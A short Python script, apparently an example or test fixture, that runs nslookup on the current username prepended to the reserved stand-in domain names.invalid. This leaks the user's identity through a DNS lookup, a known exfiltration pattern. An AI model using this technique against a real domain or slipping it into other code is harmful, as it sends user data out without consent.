import getpass
import subprocess

subprocess.run(["nslookup", getpass.getuser() + ".names.invalid"])
